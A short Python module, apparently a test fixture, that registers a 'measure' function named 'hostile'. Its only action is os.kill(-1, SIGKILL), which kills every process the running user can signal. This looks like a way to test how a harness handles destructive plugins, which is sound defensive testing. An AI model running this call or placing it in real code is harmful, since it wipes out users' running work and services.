"""It kills every process that it may."""

import os
import signal

from measures import Subject, measure


@measure(source="nobody", family="norm")
def hostile(_: Subject) -> float:
    """It kills every process that it may."""
    os.kill(-1, signal.SIGKILL)
    return 0.0
